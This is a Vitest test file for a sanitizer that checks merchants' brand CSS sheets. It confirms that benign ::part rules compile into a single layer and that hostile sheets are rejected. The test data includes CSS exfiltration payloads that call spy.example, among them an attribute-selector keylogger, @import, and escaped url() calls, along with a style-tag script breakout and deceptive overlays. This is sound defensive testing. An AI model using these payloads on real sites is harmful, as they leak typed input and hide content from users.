import { writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'
import * as v from 'valibot'
import { describe, expect, test } from 'vitest'
import { loadMerchants } from '#build-time/brand/load.ts'
import { MerchantError, type Problem } from '#build-time/brand/problems.ts'
import { lookSchema, type Look } from '#build-time/brand/schema/look.ts'
import { sheetContrastProblems } from '#build-time/brand/style-sheet/contrast.ts'
import { partClass } from '#build-time/brand/style-sheet/named-parts.ts'
import { readStyleSheet } from '#build-time/brand/style-sheet/style-sheet.ts'
import { folderOf, LEAST, LEAST_LOOK } from '../least-merchant.ts'

const FILE = 'merchants/least/brand.css'
const LOOK = v.parse(lookSchema, LEAST_LOOK)

const read = (css: string, look: Look = LOOK) => {
  const { rules, problems, css: printed } = readStyleSheet(css, FILE, look)
  return { css: printed, problems: [...problems, ...sheetContrastProblems(FILE, rules, look)] }
}

const tile = partClass('tile-picture')
const title = partClass('row-title')
const chip = partClass('chip')
const link = partClass('tile-link')

describe('BRD-4 a style sheet names parts and becomes one layer of short rules', () => {
  test.each<[why: string, css: string, expected: string]>([
    ['a part', '::part(tile-picture) {\n  border-radius: 12px;\n}', `.${tile}{border-radius:12px}`],
    ['several parts', '::part(tile-picture), ::part(row-title) { }', ''],
    ['a state', '::part(tile-link):hover { scale: 1.03 }', `.${link}:hover{scale:1.03}`],
    [
      'an ordinary chip leaves the chosen one as it is',
      '::part(chip) { background: #eee }',
      `.${chip}:not([aria-pressed=true],[aria-current=true]){background:#eee}`,
    ],
    [
      'the chosen one',
      '::part(chip):state(chosen) { border-radius: 4px }',
      `.${chip}:is([aria-pressed=true],[aria-current=true]){border-radius:4px}`,
    ],
    [
      'an ornament',
      "::part(row-title)::after { content: ''; display: block; block-size: 3px; background: var(--color-accent-2) }",
      `.${title}::after{content:'';display:block;block-size:3px;background:var(--color-accent-2)}`,
    ],
    [
      'a condition',
      '@media (min-width: 600px) { ::part(row) { padding: 8px } }',
      `@media (min-width:600px){.${partClass('row')}{padding:8px}}`,
    ],
    [
      'the ground of whoever hovers',
      '@media (hover: hover) { ::part(primary-button):hover { background-color: #002277 } }',
      `@media (hover:hover){.${partClass('primary-button')}:hover{background-color:#002277}}`,
    ],
    [
      'the dark look',
      '@media (prefers-color-scheme: dark) { ::part(tile-picture) { border: 1px solid #222 } }',
      `:where([data-scheme=dark]) .${tile}{border:1px solid #222}`,
    ],
    [
      'the fonts of scripts come first',
      '::part(row-title) { font-family: var(--font-body) }',
      `.${title}{font-family:var(--script,) var(--font-body)}`,
    ],
    ['a comment', '/* mine */ ::part(tile-picture) { /* here */ border-radius: 0 }', `.${tile}{border-radius:0}`],
    [
      'shadows and gradients',
      '::part(tile-picture) { box-shadow: 0 2px 8px #0004, inset 0 0 0 1px var(--color-line) } ::part(row) { background: linear-gradient(180deg, #fff, #f4f4f4 40%) }',
      `.${tile}{box-shadow:0 2px 8px #0004,inset 0 0 0 1px var(--color-line)}.${partClass('row')}{background:linear-gradient(180deg,#fff,#f4f4f4 40%)}`,
    ],
  ])('%s', (_why, css, expected) => {
    // An eight-digit colour has two digits for its alpha.
    const { css: printed, problems } = read(css.replace('#0004', '#00000044'))
    expect(problems).toEqual([])
    expect(printed).toBe(`@layer brand{${expected.replace('#0004', '#00000044')}}`)
  })
})

const HOSTILE: readonly [why: string, css: string, line: number, found: RegExp][] = [
  ['asks another host for a picture', '\n::part(row) { background: url(https://spy.example/p.gif) }', 2, /url\(/],
  ['asks its own host', '::part(row) { background-image: url("/m/brand/x.png") }', 1, /url\(/],
  ['loads another sheet', '@import "https://spy.example/a.css";', 1, /@import/],
  ['chooses among pictures', '::part(row) { background: image-set("a.png" 1x) }', 1, /image-set/],
  ['loads a font', '@font-face { font-family: x; src: url(x.woff2) }', 1, /@font-face/],
  ['hides an address behind escapes', '::part(row) { background: u\\72l(//spy.example) }', 1, /u\\72l/],
  ['keeps an address in a property of its own', '::part(row) { --x: url(//spy.example) }', 1, /--x/],
  ['reports what is typed', 'input[value^="a"] { background: url(//spy.example/a) }', 1, /input/],
  ['writes words', "::part(row-title)::after { content: '100% bonus' }", 1, /content/],
  ['writes words out of an attribute', '::part(row-title)::after { content: attr(aria-label) }', 1, /attr/],
  ['hides the help line', '::part(help-line) { font-size: 12px }', 1, /help-line/],
  ['hides the age', '.age { display: none }', 1, /\.age/],
  ['hides the footer', '::part(footer) { display: none }', 1, /display/],
  ['hides all that is no tile', ':not(::part(tile)) { visibility: hidden }', 1, /:not/],
  ['meets everything', '* { opacity: 0 }', 1, /\*/],
  ['meets elements', 'dialog { opacity: 0 }', 1, /dialog/],
  ['looks into a part for the balance', '::part(header) a { color: #fff }', 1, /header\) a/],
  ['makes words transparent', '::part(row-title) { color: transparent }', 1, /transparent/],
  ['makes words as pale as the page', '::part(row-title) { color: #fefefe }', 1, /#fefefe on var\(--color-bg\), contrast 1/],
  ['paints the page below dark words dark', '::part(row) { background: #111 }', 1, /var\(--color-text\) on #111/],
  ['paints the main button as pale as its words', '::part(primary-button) { background: #fff }', 1, /on-accent\) on #fff/],
  ['paints drawn numbers as pale as a bonus', '::part(block-number) { background: #fff }', 1, /on-accent-2\) on #fff|text\) on #fff/],
  ['makes sums pale', '::part(block-sum) { color: #ccc }', 1, /#ccc on/],
  ['makes a press unreadable', '::part(chip):hover { background: #555; color: #444 }', 1, /#444 on #555.*hover/],
  ['takes the ground of the main button away', '::part(primary-button) { background: none }', 1, /on-accent\) on transparent/],
  ['takes its gradient away', '::part(primary-button) { background-image: none }', 1, /on-accent\) on transparent/],
  ['lays a veil over it', '::part(primary-button) { background-image: linear-gradient(#ffffff11, #ffffff11) }', 1, /#ffffff11/],
  ['colours words for one width', '@media (min-width: 100px) { ::part(row-title) { color: #000 } }', 1, /color in @media/],
  ['colours words for those who hover alone', '@media (hover: hover) { ::part(row-title) { color: #000 } }', 1, /color in @media/],
  [
    'parts words from their ground where two states meet',
    '::part(chip):hover { background: #000; color: #fff }\n::part(chip):focus-visible { color: #000 }',
    2,
    /#000 on #000, contrast 1 .*hover, focus-visible/,
  ],
  ['shrinks words to nothing', '::part(tab-name) { font-size: 0 }', 1, /font-size: 0/],
  ['lays a part over the page', '::part(banner) { position: fixed; inset: 0; z-index: 99 }', 1, /position/],
  ['covers the page with a shadow', '::part(banner) { box-shadow: 0 0 0 9999px #000 }', 1, /9999px/],
  ['covers it with a border', '::part(header) { border-block-end: 900px solid #000 }', 1, /900px/],
  ['pushes what matters out of the window', '::part(card) { padding: 4000px }', 1, /4000px/],
  ['pulls a part over its neighbours', '::part(row) { margin: -400px }', 1, /margin/],
  ['moves a part over them', '::part(tile-link):hover { transform: scale(9) }', 1, /transform/],
  ['grows at a press', '::part(tile-link):active { scale: 9 }', 1, /scale: 9/],
  ['takes the focus ring away', '::part(tile-link):focus-visible { outline: none }', 1, /outline/],
  ['wins over the site', '::part(row) { padding: 0 !important }', 1, /!important/],
  ['changes a token of the look', '::part(row) { --color-text: #fff }', 1, /--color-text/],
  ['moves without end', '@keyframes a { to { opacity: 0 } }', 1, /@keyframes/],
  ['leaves the layers', '@layer utilities { ::part(row) { padding: 0 } }', 1, /@layer/],
  ['hides rules in rules', '::part(row) { padding: 0; & * { display: none } }', 1, /& \*/],
  ['hides rules in conditions of conditions', '@media (min-width: 100px) { @media (hover: hover) { * { color: red } } }', 1, /@media/],
  ['asks for what members have chosen', '@media (prefers-contrast: more) { ::part(row) { padding: 0 } }', 1, /prefers-contrast/],
  ['ends in the middle', '::part(row) { padding: 0', 1, /Unclosed block/],
  ['ends the style element', '::part(row) { background: </style><script>1</script> }', 1, /style/],
]

test.each(HOSTILE)('BRD-4 a style sheet that %s is refused with its line', (_why, css, line, found) => {
  const { problems } = read(css)
  expect(problems.length).toBeGreaterThan(0)
  expect(problems[0]).toMatchObject({ file: FILE, field: `line ${line}`, found: expect.stringMatching(found) })
})

test.each<[why: string, css: string]>([
  ['large corners', '::part(tile-picture) { border-radius: 999px }'],
  ['a shadow as large as allowed', '::part(tile-picture) { box-shadow: 0 24px 64px 12px #000 }'],
  ['a border as thick as allowed', '::part(header) { border-block-end: 6px double var(--color-accent-2) }'],
  ['the smallest words', '::part(tab-name) { font-size: 12px; text-transform: uppercase }'],
  ['the largest room', '::part(row) { padding: 32px }'],
])('BRD-4 harmless: %s', (_why, css) => expect(read(css).problems).toEqual([]))

test('BRD-4 words are held against the ground that the sheet gives them, and against all grounds of the look without one', () => {
  const pale = '::part(row-title), ::part(row-link), ::part(tile-name), ::part(tile-provider) { color: #fff }'
  expect(read(pale).problems).toHaveLength(8)
  expect(read(`::part(row), ::part(tile-link) { background: #111 } ${pale}`).problems).toEqual([])
  expect(
    read(`::part(row), ::part(tile-link) { background: #111 } ::part(tile-link):hover { background: #eee } ${pale}`).problems,
  ).toHaveLength(2)
})

test('BRD-4 a sheet is 20,000 bytes at most, and pages carry 6,000 characters of it', () => {
  expect(read(`/*${'x'.repeat(20_000)}*/`).problems).toMatchObject([{ found: '20004 bytes' }])
  expect(read('::part(row) { padding: 0 }\n'.repeat(500)).problems).toMatchObject([{ expected: 'at most 6000, which pages carry' }])
})

test('BRD-4 words that lie on the pictures of a look keep its colour', () => {
  const look = v.parse(lookSchema, { ...LEAST_LOOK, tile: { name: 'over' } })
  expect(read('::part(tile-name) { color: #000 }').problems).toEqual([])
  expect(read('::part(tile-name) { color: #000 }', look).problems).toMatchObject([{ found: 'color: #000' }])
})

test('BRD-4 words are readable in the dark look too', () => {
  const { headerColour, gradients, shadows } = LEAST_LOOK
  const dark = { headerColour, gradients, shadows, colours: { ...LEAST_LOOK.colours, bg: '#000000', surface: '#000000', text: '#ffffff' } }
  const look = v.parse(lookSchema, { ...LEAST_LOOK, dark })
  expect(read('::part(row-title) { color: #333 }', look).problems).toMatchObject([{ found: expect.stringContaining('dark') }, {}])
  const both = '::part(row-title) { color: #333 } @media (prefers-color-scheme: dark) { ::part(row-title) { color: #ddd } }'
  expect(read(both, look).problems).toEqual([])
})

function problemsIn(root: string): readonly Problem[] {
  try {
    loadMerchants([], root)
    return []
  } catch (error) {
    if (error instanceof MerchantError) return error.problems
    throw error
  }
}

test('BRD-4 only an operator who allows it has brands with a style sheet', async () => {
  const root = await folderOf({ 'merchant.json': LEAST, 'brand.css': '::part(row) { padding: 8px }' })
  const refused = { file: FILE, field: '', found: 'a style sheet', expected: 'none: livery.json does not allow brands to have one' }
  const allow = (settings: object) =>
    writeFileSync(join(dirname(root), 'livery.json'), JSON.stringify({ hosts: { sessions: [] }, ...settings }))
  expect(problemsIn(root)).toMatchObject([refused])
  allow({ styleSheets: false })
  expect(problemsIn(root)).toMatchObject([refused])
  allow({ styleSheets: true })
  expect(problemsIn(root)).toEqual([])
  expect(loadMerchants([], root)[0]?.styleSheet).toBe(`@layer brand{.${partClass('row')}{padding:8px}}`)
})

test('BRD-4 a brand without a style sheet has none', async () => {
  expect(loadMerchants([], await folderOf())[0]?.styleSheet).toBe('')
})
